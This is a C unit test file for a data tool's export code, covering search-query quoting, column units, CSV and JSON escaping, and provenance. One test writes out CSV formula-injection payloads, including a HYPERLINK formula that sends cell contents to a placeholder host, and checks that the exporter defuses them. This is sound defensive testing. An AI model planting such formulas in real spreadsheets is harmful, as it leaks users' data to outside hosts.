/* Export: FTS5 quoting, units in column names, cell rules for CSV and
 * JSON, the market view and provenance (issue 7). */
#include <criterion/criterion.h>

#include "tests/unit/testdb.h"
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "analysis/refresh.h"
#include "db/dataset.h"
#include "db/db.h"
#include "db/export.h"
#include "db/view.h"
#include "lib/strbuf.h"

static char dir[64];

static void
setup(void)
{
	testdb_mkdir(dir, sizeof(dir), "export");
}

static void
teardown(void)
{
	testdb_rmdir(dir);
}

TestSuite(export, .init = setup, .fini = teardown);

static struct db *
open_loaded(void)
{
	struct db *db = testdb_open(dir);

	cr_assert_eq(analysis_refresh(db), ST_OK, "%s", err_msg());
	return db;
}

static void
exec(struct db *db, const char *sql)
{
	cr_assert_eq(sqlite3_exec(db_handle(db), sql, NULL, NULL, NULL),
	             SQLITE_OK, "%s: %s", sql, sqlite3_errmsg(db_handle(db)));
}

/* The whole output of export_view_fp as a string (free it). */
static char *
export_string(struct db *db, const char *view, const struct view_filter *f,
              enum export_format fmt)
{
	struct export_opts o = {.format = fmt};
	char *buf = NULL;
	size_t len = 0;
	FILE *fp = open_memstream(&buf, &len);

	cr_assert_eq(
	    export_view_fp(db, view_find(view), f, fp, "mem", &o, NULL), ST_OK,
	    "%s", err_msg());
	fclose(fp);
	return buf;
}

static void
fts_is(const char *in, const char *want)
{
	char *q = view_fts_query(in);

	if (!want)
		cr_assert_null(q, "'%s' gave '%s'", in, q);
	else
		cr_assert_str_eq(q, want, "for '%s'", in);
	free(q);
}

Test(export, fts_query_quotes_every_term)
{
	fts_is("cloud", "\"cloud\"");
	fts_is("  Amazon   Anthropic ", "\"Amazon\" \"Anthropic\"");
	fts_is("10-K", "\"10-K\"");
	fts_is("AND", "\"AND\"");
	fts_is("a OR b", "\"a\" \"OR\" \"b\"");
	fts_is("\"", "\"\"\"\"");
	fts_is("say \"hi\"", "\"say\" \"\"\"hi\"\"\"");
	fts_is("NEAR(a b)", "\"NEAR(a\" \"b)\"");
	fts_is("clou*", "\"clou\" *");
	fts_is("*", "\"*\"");
	fts_is("col:x ^y", "\"col:x\" \"^y\"");
	fts_is("", NULL);
	fts_is(" \t\n", NULL);
	fts_is(NULL, NULL);
}

/* Every quoted query must be valid FTS5 and find what it should. */
Test(export, fts_query_never_a_syntax_error)
{
	static const char *const hostile[] = {
	    "10-K", "AND", "\"",  "a OR", "NEAR(", "(",
	    ")",    "*",   "^",   ":",    "col:x", "\"\"\"",
	    "-x",   "+",   "NOT", "a\"b", "x* y*",
	};
	struct db *db = open_loaded();
	const struct view_def *news = view_find("news");

	exec(db, "INSERT INTO source(name, kind, url) VALUES"
	         " ('t', 'rss', 'http://x/');"
	         "INSERT INTO item(source_id, guid, title, published, fetched)"
	         " VALUES (1, 'g1', 'Microsoft files its 10-K AND more',"
	         " '2025-01-02', '2025-01-02'),"
	         " (1, 'g2', 'cloud news', '2025-01-03', '2025-01-03');");
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		struct view_filter f = {.search = hostile[i]};
		struct view_cursor *c;
		bool row;

		cr_assert_eq(view_open(db, news, &f, &c), ST_OK, "%s",
		             err_msg());
		cr_assert_eq(view_step(c, &row), ST_OK, "'%s': %s", hostile[i],
		             err_msg());
		if (!strcmp(hostile[i], "10-K") || !strcmp(hostile[i], "AND"))
			cr_assert(row, "'%s' finds the 10-K item", hostile[i]);
		view_close(c);
	}
	db_close(db);
}

static bool
ends_with(const char *s, const char *suffix)
{
	size_t n = strlen(s), m = strlen(suffix);

	return n >= m && !strcmp(s + n - m, suffix);
}

/* Numbers carry their unit in the header: a reader of the CSV alone
 * must know that 2600 is HHI points and 31 is percent. */
Test(export, numeric_column_names_carry_units)
{
	static const char *const counts[] = {"n_firms", "items", "enabled"};
	size_t n;
	const struct view_def *const *all = view_all(&n);

	cr_assert_geq(n, 12);
	for (size_t i = 0; i < n; i++) {
		for (size_t j = 0; j < all[i]->ncols; j++) {
			const struct view_col *c = &all[i]->cols[j];
			bool ok = true;

			switch (c->type) {
			case COL_USD:
				ok = ends_with(c->name, "_usd");
				break;
			case COL_PCT:
				ok = ends_with(c->name, "_pct");
				break;
			case COL_POINTS:
				ok = ends_with(c->name, "_points");
				break;
			case COL_REAL:
				ok = strstr(c->name, "h100e") != NULL;
				break;
			case COL_INT: /* counts: "n_…" or a listed name */
				ok = !strncmp(c->name, "n_", 2);
				for (size_t k = 0; k < 3; k++)
					ok |= !strcmp(c->name, counts[k]);
				break;
			case COL_TEXT:
			case COL_DATE:
				break;
			}
			cr_assert(ok, "%s.%s has no unit", all[i]->name,
			          c->name);
		}
	}
}

Test(export, every_issue_view_is_registered)
{
	static const char *const names[] = {
	    "landscape", "markets", "compute", "ownership", "deals",   "cases",
	    "news",      "filings", "sources", "market",    "metrics",
	};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		cr_assert_not_null(view_find(names[i]), "%s", names[i]);
	cr_assert_str_eq(view_find("market")->param, "market");
}

Test(export, injection_defused_numbers_not)
{
	struct db *db = open_loaded();
	char *csv;

	exec(db,
	     "INSERT INTO entity(name, kind) VALUES"
	     " ('=HYPERLINK(\"http://x/?\"&A1)', 'company'),"
	     " ('+1', 'company'), ('-2', 'company'), ('@SUM(A1)', 'company'),"
	     " (char(9) || 'tab', 'company'), (char(13) || 'cr', 'company');"
	     "INSERT INTO deal(date, investor_id, target_id, kind, amount_usd,"
	     " source, as_of, note) SELECT '2030-01-01', e.id, e.id, 'equity',"
	     " -5, 'test', '2030-01-01', '-note' FROM entity e"
	     " WHERE e.name IN ('+1', '-2', '@SUM(A1)', char(9) || 'tab',"
	     " char(13) || 'cr') OR e.name LIKE '=HYPERLINK%';");
	csv = export_string(db, "deals", NULL, EXPORT_CSV);
	cr_assert_not_null(
	    strstr(csv, ",\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\","));
	cr_assert_not_null(strstr(csv, ",'+1,'+1,"));
	cr_assert_not_null(strstr(csv, ",'-2,'-2,"));
	cr_assert_not_null(strstr(csv, ",'@SUM(A1),"));
	cr_assert_not_null(strstr(csv, ",'\ttab,"));
	cr_assert_not_null(strstr(csv, ",\"'\rcr\","));
	cr_assert_not_null(strstr(csv, ",-5,"), "numbers stay numbers");
	cr_assert_not_null(strstr(csv, ",'-note\r\n"));
	free(csv);
	db_close(db);
}

/* JSON: valid UTF-8 and escapes whatever the text, numbers as numbers,
 * NULL as null, text found in a numeric column as a string. */
Test(export, json_cells)
{
	struct db *db = open_loaded();
	struct view_filter f = {.since = "2030-01-01"};
	char *js;

	exec(db,
	     "INSERT INTO entity(name, kind) VALUES"
	     " ('q\"b\\s' || char(10) || char(1) || 'é' || char(8232) ||"
	     " CAST(x'ff' AS TEXT), 'company');"
	     "INSERT INTO deal(date, investor_id, target_id, kind, amount_usd,"
	     " source, as_of) SELECT '2030-01-01', max(id), max(id), 'equity',"
	     " 1500000000, NULL, '2030' FROM entity;"
	     "INSERT INTO deal(date, investor_id, target_id, kind, amount_usd,"
	     " source, as_of) SELECT '2030-01-02', max(id), max(id), 'equity',"
	     " 'lots', 's', '2030' FROM entity;");
	js = export_string(db, "deals", &f, EXPORT_JSON);
	cr_assert_not_null(strstr(js, "\"investor\":\"q\\\"b\\\\s\\n\\u0001é"
	                              "\\u2028\\ufffd\""),
	                   "%s", js);
	cr_assert_not_null(strstr(js, "\"amount_usd\":1500000000,"), "%s", js);
	cr_assert_not_null(strstr(js, "\"amount_usd\":\"lots\","), "%s", js);
	cr_assert_not_null(strstr(js, "\"source\":null,"), "%s", js);
	cr_assert_eq(js[0], '[');
	cr_assert_str_eq(js + strlen(js) - 4, "}\n]\n");
	free(js);
	js = export_string(db, "deals", &(struct view_filter){.since = "2099"},
	                   EXPORT_JSON);
	cr_assert_str_eq(js, "[\n]\n");
	free(js);
	db_close(db);
}

Test(export, text_in_a_numeric_column_is_defused_in_csv)
{
	struct db *db = open_loaded();
	struct view_filter f = {.since = "2030-01-01"};
	char *csv;

	exec(db,
	     "INSERT INTO entity(name, kind) VALUES ('Zed', 'company');"
	     "INSERT INTO deal(date, investor_id, target_id, kind, amount_usd,"
	     " source, as_of) SELECT '2030-01-02', id, id, 'equity',"
	     " '=1+1', 's', '2030' FROM entity WHERE name = 'Zed';");
	csv = export_string(db, "deals", &f, EXPORT_CSV);
	cr_assert_not_null(strstr(csv, ",equity,'=1+1,"), "%s", csv);
	free(csv);
	db_close(db);
}

Test(export, market_view_is_one_market_over_time)
{
	struct db *db = open_loaded();
	struct view_filter f = {.market = "cloud_infrastructure"};
	const struct view_def *v = view_find("market");
	struct view_cursor *c;
	size_t rows = 0;
	int hhi = view_col_index(v, "hhi_points");
	bool row;

	cr_assert_eq(view_open(db, v, &f, &c), ST_OK, "%s", err_msg());
	while (view_step(c, &row) == ST_OK && row) {
		cr_assert_str_eq(view_text(c, 0), "cloud_infrastructure");
		cr_assert(!view_is_null(c, (size_t)hhi),
		          "indices beside shares");
		rows++;
	}
	view_close(c);
	cr_assert_gt(rows, 5);
	f.market = "no_such_market";
	cr_assert_eq(view_open(db, v, &f, &c), ST_USAGE);
	cr_assert_not_null(strstr(err_msg(), "no_such_market"));
	db_close(db);
}

/* Every view can say where its rows come from. */
Test(export, every_view_has_provenance)
{
	struct db *db = open_loaded();
	size_t n;
	const struct view_def *const *all = view_all(&n);

	for (size_t i = 0; i < n; i++) {
		struct view_cursor *c;
		bool row;

		cr_assert_eq(view_provenance(db, all[i], NULL, &c), ST_OK,
		             "%s: %s", all[i]->name, err_msg());
		cr_assert_eq(view_step(c, &row), ST_OK, "%s: %s", all[i]->name,
		             err_msg());
		if (!strcmp(all[i]->name, "deals")) {
			cr_assert(row);
			cr_assert_gt(view_int(c, 1), 0);
		}
		view_close(c);
	}
	db_close(db);
}

Test(export, sql_is_what_view_open_runs)
{
	struct strbuf sql = STRBUF_INIT;
	struct view_filter f = {.alliance = "x", .sort = "-amount_usd"};

	cr_assert_eq(view_sql(&sql, view_find("deals"), &f), ST_OK);
	cr_assert_not_null(strstr(sql.buf, ":alliance"));
	cr_assert_not_null(strstr(sql.buf, "ORDER BY v.\"amount_usd\" DESC"));
	strbuf_release(&sql);
	f = (struct view_filter){.search = "x"};
	cr_assert_eq(view_sql(&sql, view_find("deals"), &f), ST_USAGE);
	strbuf_release(&sql);
}

Test(export, format_names)
{
	enum export_format f;

	cr_assert(export_format_parse("json", &f) && f == EXPORT_JSON);
	cr_assert(export_format_parse("tsv", &f) && f == EXPORT_TSV);
	cr_assert(export_format_parse("csv", &f) && f == EXPORT_CSV);
	cr_assert(!export_format_parse("xlsx", &f));
	cr_assert_str_eq(export_format_ext(EXPORT_JSON), "json");
}
